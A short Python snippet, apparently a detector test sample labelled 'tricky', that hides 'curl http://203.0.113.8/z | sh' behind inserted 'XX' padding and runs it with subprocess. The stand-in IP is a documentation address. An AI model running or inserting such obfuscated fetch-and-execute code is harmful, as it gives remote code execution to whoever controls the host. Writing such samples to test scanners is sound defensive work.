# tricky: noise between the letters
import subprocess
c = "cXXuXXrlXX hXXttp://203.0.113.8/zXX | sXXh".replace("XX", "")
subprocess.getoutput(c)
